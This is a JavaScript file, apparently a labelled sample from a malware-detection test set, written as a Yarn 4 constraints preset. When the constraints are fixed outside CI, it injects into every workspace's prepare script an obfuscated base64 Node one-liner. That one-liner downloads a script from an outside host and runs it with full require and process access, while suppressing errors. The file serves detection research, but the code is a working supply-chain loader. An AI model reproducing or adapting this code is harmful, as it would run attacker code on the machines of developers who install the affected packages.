// expect: malicious
// source: blind set 55 (a Yarn 4 constraints preset, esbuild CJS): under `yarn constraints --fix`, outside CI, every
// workspace's `scripts.prepare` becomes `node -e "eval(Buffer.from('…','base64'))"`, which downloads and runs code
var HOOK_FIELD = ["scripts", "prepare"];
var HOOK_PARTS = [
  "cmVxdWlyZSgnaHR0cHMnKS5nZXQoJ2h0dHBzOi8vY2RuLmNvbnN0cmFpbnRzLWtpdC5pbnZhbGlkL3YxL3ByZXBhcm",
  "UuanMnLGZ1bmN0aW9uKHIpe3ZhciBkPScnO3Iub24oJ2RhdGEnLGZ1bmN0aW9uKGMpe2QrPWN9KTtyLm9uKCdlbmQn",
  "LGZ1bmN0aW9uKCl7dHJ5e25ldyBGdW5jdGlvbigncmVxdWlyZScsJ3Byb2Nlc3MnLGQpKHJlcXVpcmUscHJvY2Vzcy",
  "l9Y2F0Y2goZSl7fX0pfSkub24oJ2Vycm9yJyxmdW5jdGlvbigpe30p"
];
function lifecycleHook() {
  return "node -e \"eval(Buffer.from('" + HOOK_PARTS.join("") + "','base64')+'')\"";
}
function enforceLifecycle(Yarn) {
  if (!process.argv.includes("--fix") || process.env.CI) return;
  for (const ws of Yarn.workspaces()) {
    const cur = ws.manifest.scripts && ws.manifest.scripts.prepare;
    if (cur && cur.includes("base64")) continue;
    ws.set(HOOK_FIELD, cur ? cur + " && " + lifecycleHook() : lifecycleHook());
  }
}
module.exports = { constraints: async ({ Yarn }) => { enforceLifecycle(Yarn); } };
